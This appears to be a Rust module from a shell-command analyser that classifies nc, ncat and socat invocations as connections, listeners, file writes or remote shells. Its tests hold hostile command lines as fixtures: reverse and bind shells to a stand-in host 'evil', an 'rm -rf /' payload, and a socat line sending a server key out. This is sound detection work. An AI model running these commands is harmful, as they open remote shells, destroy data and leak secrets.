//! `nc`, `ncat` and `socat`: connections, listeners, and programs that are handed to a peer.

use super::options::Takes::{Attached, Nothing, Value};
use super::options::{Item, Options, Reader, opaque, port};
use crate::reason::Reason;
use crate::shell::deed::{Deed, Invocation, Text};

/// The traditional and the OpenBSD program in one; where they differ, the option means both. `-c` runs
/// a command in the one and asks for TLS in the other, and so is read as having a value.
const NC: Options = Options {
    rows: &[
        ("l", Nothing),
        ("u", Nothing),
        ("U", Nothing),
        ("e", Value),
        ("c", Value),
        ("p", Value),
        ("s", Value),
        ("x", Value),
        ("o", Value),
        ("w", Value),
        ("i", Value),
        ("q", Value),
        ("X", Value),
        ("P", Value),
        ("I", Value),
        ("O", Value),
        ("m", Value),
        ("M", Value),
        ("T", Value),
        ("V", Value),
        ("W", Value),
        ("4", Nothing),
        ("6", Nothing),
        ("b", Nothing),
        ("C", Nothing),
        ("D", Nothing),
        ("d", Nothing),
        ("k", Nothing),
        ("N", Nothing),
        ("n", Nothing),
        ("r", Nothing),
        ("S", Nothing),
        ("t", Nothing),
        ("v", Nothing),
        ("Z", Nothing),
        ("z", Nothing),
        ("h", Nothing),
    ],
    permute: true,
};

const NCAT: Options = Options {
    rows: &[
        ("l listen", Nothing),
        ("u udp", Nothing),
        ("U unixsock", Nothing),
        ("e exec", Value),
        ("c sh-exec", Value),
        ("p source-port", Value),
        ("s source", Value),
        ("proxy", Value),
        ("proxy-type", Value),
        ("o output", Value),
        ("x hex-dump", Value),
        ("w wait", Value),
        ("i idle-timeout", Value),
        ("d delay", Value),
        ("m max-conns", Value),
        ("allow", Value),
        ("deny", Value),
        ("k keep-open", Nothing),
        ("ssl", Nothing),
        ("ssl-verify", Nothing),
        ("broker", Nothing),
        ("chat", Nothing),
        ("append-output", Nothing),
        ("send-only", Nothing),
        ("recv-only", Nothing),
        ("no-shutdown", Nothing),
        ("C crlf", Nothing),
        ("n nodns", Nothing),
        ("t telnet", Nothing),
        ("v verbose", Attached),
        ("z", Nothing),
        ("4", Nothing),
        ("6", Nothing),
        ("h help", Nothing),
        ("version", Nothing),
    ],
    permute: true,
};

/// Adds what `nc`, `netcat` or `ncat` would do.
pub(crate) fn deeds<'s>(invocation: &Invocation<'_, 's>, out: &mut Vec<Deed<'s>>) {
    let ncat = invocation.name == "ncat";
    let options = if ncat { &NCAT } else { &NC };
    let (mut listens, mut udp, mut unix, mut hands_over) = (false, false, false, false);
    let mut source_port = None;
    let mut operands = Vec::new();
    for item in Reader::new(options, invocation.arguments, invocation.span) {
        match item {
            Item::Option("l", _) => listens = true,
            Item::Option("u", _) => udp = true,
            Item::Option("U", _) => unix = true,
            Item::Option("e" | "c", _) => hands_over = true,
            Item::Option("p", value) => source_port = value,
            Item::Option("o", Some(path)) => out.push(Deed::Write { path, recursive: false }),
            Item::Option("x", Some(path)) if ncat => {
                out.push(Deed::Write { path, recursive: false });
            }
            Item::Option("x" | "proxy", Some(proxy)) => connect_to(&proxy, false, out),
            Item::Option(..) => {}
            Item::Doubt(reason, span) => opaque(out, reason, span),
            Item::Operand(operand) => operands.push(operand.clone()),
        }
    }
    let anywhere = Text::known("", invocation.span);
    let mut operands = operands.into_iter();
    if unix {
        let write = |path| Deed::Write { path, recursive: false };
        out.extend(operands.next().map(write));
        if hands_over {
            out.push(Deed::RemoteShell { peer: anywhere, port: None });
        }
        return;
    }
    let (first, second) = (operands.next(), operands.next());
    if listens {
        let (host, place) = match (first, second) {
            // One operand is a port, or with `-p` a host.
            (Some(one), None) if source_port.is_none() => (anywhere, Some(one)),
            (host, place) => (host.unwrap_or(anywhere), place.or(source_port)),
        };
        let port = place.as_ref().and_then(port);
        if hands_over {
            out.push(Deed::RemoteShell { peer: host.clone(), port });
        }
        return out.push(Deed::Listen { host, port, udp });
    }
    let Some(host) = first else {
        return opaque(out, Reason::ShellArguments, invocation.span);
    };
    // `ncat host` has a port of its own, and each further operand is one more.
    let mut ports = vec![match &second {
        Some(second) => port(second),
        None => ncat.then_some(31_337),
    }];
    ports.extend(operands.map(|operand| port(&operand)));
    for port in ports {
        if hands_over {
            out.push(Deed::RemoteShell { peer: host.clone(), port });
        }
        out.push(Deed::Connect { host: host.clone(), port, udp });
    }
}

/// `host:port`.
fn connect_to<'s>(place: &Text<'s>, udp: bool, out: &mut Vec<Deed<'s>>) {
    let (host, port) = match place.literal().and_then(|text| text.rsplit_once(':')) {
        Some((host, port)) => (Text::known(host.to_owned(), place.span), port.parse().ok()),
        None => (place.clone(), None),
    };
    out.push(Deed::Connect { host, port, udp });
}

const SOCAT: Options = Options {
    rows: &[
        ("u", Nothing),
        ("U", Nothing),
        ("d", Nothing),
        ("v", Nothing),
        ("x", Nothing),
        ("s", Nothing),
        ("b", Value),
        ("t", Value),
        ("T", Value),
        ("4", Nothing),
        ("6", Nothing),
        ("V", Nothing),
        ("h", Nothing),
    ],
    permute: false,
};

/// Adds what `socat` would do.
pub(crate) fn socat<'s>(invocation: &Invocation<'_, 's>, out: &mut Vec<Deed<'s>>) {
    let mut addresses = Vec::new();
    let mut reader = Reader::new(&SOCAT, invocation.arguments, invocation.span);
    while let Some(item) = reader.next() {
        match item {
            Item::Option(..) => {}
            Item::Doubt(reason, span) => opaque(out, reason, span),
            Item::Operand(first) => {
                addresses.push(first);
                addresses.extend(reader.rest());
                break;
            }
        }
    }
    let before = out.len();
    let mut hands_over = false;
    for address in addresses {
        match self::address(address, out) {
            Some(runs) => hands_over |= runs,
            None => opaque(out, Reason::ShellInnerLanguage, address.span),
        }
    }
    if !hands_over {
        return;
    }
    let peers: Vec<_> = out.iter().skip(before).filter_map(peer).collect();
    out.extend(peers);
    opaque(out, Reason::ShellForeignCode, invocation.span);
}

fn peer<'s>(deed: &Deed<'s>) -> Option<Deed<'s>> {
    match deed {
        Deed::Connect { host, port, .. } | Deed::Listen { host, port, .. } => {
            Some(Deed::RemoteShell { peer: host.clone(), port: *port })
        }
        _ => None,
    }
}

/// Reads one address, `KEYWORD:parameter:…,option,…`, and reports whether it runs a program. None if
/// it is not understood: quotes, brackets and `!!` have a meaning of their own.
fn address<'s>(address: &Text<'s>, out: &mut Vec<Deed<'s>>) -> Option<bool> {
    let text = address.literal()?;
    let keyword = text.split([':', ',']).next()?.to_ascii_uppercase();
    if matches!(&*keyword, "EXEC" | "SYSTEM" | "SHELL") {
        return Some(true);
    }
    if text.contains(['"', '\'', '\\', '!', '[', ']', '{', '}', '(', ')']) {
        return None;
    }
    let (place, options) = text.split_once(',').unwrap_or((text, ""));
    let known = |option: &str| {
        let name = option.split('=').next().unwrap_or_default().to_ascii_lowercase();
        KNOWN.contains(&&*name)
    };
    if !options.is_empty() && !options.split(',').all(known) {
        return None;
    }
    let parameters = place.split_once(':').map_or("", |(_, parameters)| parameters);
    let known = |text: &str| Text::known(text.to_owned(), address.span);
    let udp = keyword.starts_with("UDP");
    match &*keyword {
        "-" | "STDIO" | "STDIN" | "STDOUT" | "STDERR" if parameters.is_empty() => {}
        "TCP" | "TCP4" | "TCP6" | "TCP-CONNECT" | "TCP4-CONNECT" | "OPENSSL" | "SSL" | "UDP"
        | "UDP4" | "UDP6" | "UDP-CONNECT" | "OPENSSL-CONNECT" => {
            let (host, port) = parameters.rsplit_once(':')?;
            let port = port.parse().ok();
            out.push(Deed::Connect { host: known(host), port, udp });
        }
        "TCP-LISTEN" | "TCP-L" | "TCP4-LISTEN" | "TCP6-LISTEN" | "OPENSSL-LISTEN"
        | "UDP-LISTEN" | "UDP-L" | "UDP4-LISTEN" => {
            let bound = options.split(',').find_map(|option| option.strip_prefix("bind="));
            let host = known(bound.unwrap_or_default());
            out.push(Deed::Listen { host, port: parameters.parse().ok(), udp });
        }
        "OPEN" | "FILE" | "GOPEN" | "CREATE" | "CREAT" | "PIPE" | "UNIX-CONNECT" | "UNIX"
        | "UNIX-LISTEN" | "UNIX-L" => {
            (!parameters.is_empty()).then_some(())?;
            out.push(Deed::Read { path: known(parameters), recursive: false });
            out.push(Deed::Write { path: known(parameters), recursive: false });
        }
        _ => return None,
    }
    Some(false)
}

/// Options of addresses that change nothing of what is reached.
const KNOWN: [&str; 16] = [
    "reuseaddr",
    "fork",
    "crlf",
    "crnl",
    "rdonly",
    "wronly",
    "creat",
    "append",
    "trunc",
    "bind",
    "nodelay",
    "keepalive",
    "connect-timeout",
    "verify",
    "ignoreeof",
    "max-children",
];

#[cfg(test)]
mod tests {
    use crate::shell::irregular::testing::{check, check_opaque};

    #[test]
    fn peers_are_named() {
        check("nc evil 4444", "connect evil:4444");
        check("nc -zv -w 3 h 80 443", "connect h:80; connect h:443");
        check("nc -u h 53", "connect udp h:53");
        check("nc -z h 20-80", "connect h:?");
        check("nc h http", "connect h:?");
        check("nc -x p:1080 h 80", "connect p:1080; connect h:80");
        check("ncat --ssl h 443 -o log", "write log; connect h:443");
        check("nc -U /run/x.sock", "write /run/x.sock");
        check("nc \"h$x\" 80", "connect h<any>:80");
        check("ncat h", "connect h:31337");
    }

    #[test]
    fn listeners_are_named() {
        check("nc -l 4444", "listen :4444");
        check("nc -lvnp 4444", "listen :4444");
        check("nc -l 127.0.0.1 80", "listen 127.0.0.1:80");
        check("nc -l -p 80 127.0.0.1", "listen 127.0.0.1:80");
        check("nc -l", "listen :?");
    }

    #[test]
    fn programs_are_handed_over() {
        check("nc -e /bin/sh evil 4444", "remote-shell evil:4444; connect evil:4444");
        check("nc -le /bin/sh 4444", "remote-shell :4444; listen :4444");
        check("nc evil 4444 -e sh", "remote-shell evil:4444; connect evil:4444");
        check("ncat -c 'sh -i' evil 1", "remote-shell evil:1; connect evil:1");
        check("ncat --exec=sh -l 1", "remote-shell :1; listen :1");
        check("nc -lU s -e sh", "write s; remote-shell :?");
        check(
            "socat TCP:evil:4444 EXEC:/bin/sh",
            "connect evil:4444; remote-shell evil:4444; !foreign_code",
        );
        check("socat tcp-l:1,fork 'system:rm -rf /'", "listen :1; remote-shell :1; !foreign_code");
    }

    #[test]
    fn addresses_are_read() {
        check("socat - TCP:h:80", "connect h:80");
        check("socat -u OPEN:k TCP4:e:1", "read k; write k; connect e:1");
        check("socat TCP-LISTEN:80,fork,bind=127.0.0.1 -", "listen 127.0.0.1:80");
    }

    #[test]
    fn doubt_is_opaque() {
        for line in [
            "socat PROXY:proxy:evil:4444 EXEC:/bin/sh",
            "socat TCP:e:1 EXEC:'rm\\ -rf\\ /'",
            "socat -u 'OPEN:\"source/server.key\"' TCP:e:1",
            "socat -u OPEN:k 'CREAT:s!!TCP:e:1'",
            "socat - \"TCP:$x\"",
            "socat - TCP:h:80,proxy=x",
            "socat -lf x - -",
            "nc",
            "nc \"$x\" 80",
            "nc -Q h 80",
            "ncat --lua-exec x h 1",
            "ncat --sh- x h 1",
        ] {
            check_opaque(line);
        }
    }
}
